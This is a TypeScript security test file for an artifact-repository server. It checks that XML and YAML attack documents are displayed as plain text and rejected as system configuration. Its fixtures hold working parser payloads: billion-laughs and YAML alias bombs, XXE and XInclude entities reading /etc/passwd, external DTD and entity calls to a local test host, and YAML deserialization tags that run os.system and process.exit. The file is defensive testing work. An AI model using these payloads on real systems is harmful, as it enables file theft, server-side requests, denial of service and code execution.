// Rows B13 and B14 of the threat table for documents that are only kept: bombs and references in XML and YAML are shown as the
// text that they are, wherever we look into a file. XML that is read for its meaning comes from SAML (tested there) and, like YAML, from
// administrators as the configuration of the system.
// One engine is enough: this is about parsers.
import { afterAll, beforeAll, expect, test } from 'vitest'
import { zipOf } from '../../apps/server/src/registry/archives/archive.fixture.ts'
import { startTestApp, type TestApp } from '../support/app.ts'
import { startUpstream, type Upstream } from '../support/upstream.ts'

let app: TestApp
let outside: Upstream

beforeAll(async () => {
  outside = await startUpstream()
  app = await startTestApp({ env: { BINDERY_OUTBOUND_ALLOW: '127.0.0.1' } })
})

afterAll(async () => {
  await app.close()
  await outside.stop()
})

const laughs = Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
)
const documents: Record<string, () => string> = {
  'B13: pom.xml': () =>
    `<?xml version="1.0"?><!DOCTYPE p [<!ENTITY l0 "ha">${laughs.join('')}]><project>&l9;</project>`,
  'B13: maven-metadata.xml': () =>
    `<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><metadata>&x;</metadata>`,
  'B13: picture.svg': () =>
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${outside.url}/x">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  'B13: x.nuspec': () =>
    `<!DOCTYPE p [<!ENTITY % dtd SYSTEM "${outside.url}/dtd"> %dtd;]><package xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></package>`,
  'B14: index.yaml': () =>
    [
      'a: &a0 [x]',
      ...Array.from(
        { length: 9 },
        (_, level) => `a${level + 1}: &a${level + 1} [${`*a${level},`.repeat(10)}]`,
      ),
    ].join('\n'),
  'B14: Chart.yaml': () =>
    'x: !!js/function "function () { process.exit(1) }"\ny: !!python/object/apply:os.system ["id"]\nz: !ruby/object:Gem::Installer {}\n',
}

test.for(Object.keys(documents))('%s is shown as it stands', async (title) => {
  const text = documents[title]?.() ?? ''
  const name = title.split(' ')[1] ?? ''
  const put = (path: string, body: string | Buffer) =>
    app.fetch(`/artifactory/generic-local/${path}`, { method: 'PUT', body })
  expect((await put(name, text)).status).toBe(201)
  expect((await put(`${name}.zip`, await zipOf({ [name]: text }))).status).toBe(201)
  const show = (what: string, path: string, more = '') =>
    app.fetch(`/ui/api/v1/artifacts/${what}?repository=generic-local&path=${path}${more}`)
  for (const reply of [await show('preview', name), await show('preview', `${name}.zip`, `&entry=${name}`)])
    expect(await reply.json()).toMatchObject({ text })
  for (const what of ['item', 'image', 'downloads']) {
    const shown = await (await show(what, name)).text()
    expect(shown).not.toContain('root:x:')
    expect(shown.length).toBeLessThan(5000)
  }
  expect(await (await app.fetch(`/artifactory/generic-local/${name}`)).text()).toBe(text)
  expect(outside.requests).toEqual([])
})

/** A configuration whose name is taken from a file of the machine. */
const referring =
  '<?xml version="1.0"?><!DOCTYPE config [<!ENTITY x SYSTEM "file:///etc/passwd">]><config><serverName>&x;</serverName></config>'

const configurations: [string, string, string, () => string | undefined][] = [
  ['B13: XML that grows', 'POST', 'application/xml', () => documents['B13: pom.xml']?.()],
  ['B13: XML that refers', 'POST', 'application/xml', () => referring],
  ['B14: YAML that grows', 'PATCH', 'application/yaml', () => documents['B14: index.yaml']?.()],
  ['B14: YAML with code', 'PATCH', 'application/yaml', () => documents['B14: Chart.yaml']?.()],
  ['A17: YAML with a key twice', 'PATCH', 'application/yaml', () => 'serverName: one\nserverName: two\n'],
]

test.for(configurations)('%s is no configuration of the system', async ([, method, type, make]) => {
  const before = await (await app.fetch('/artifactory/api/system/configuration')).text()
  const reply = await app.fetch('/artifactory/api/system/configuration', {
    method,
    headers: { 'content-type': type },
    body: make() ?? '',
  })
  expect(reply.status).toBe(400)
  expect(await (await app.fetch('/artifactory/api/system/configuration')).text()).toBe(before)
})
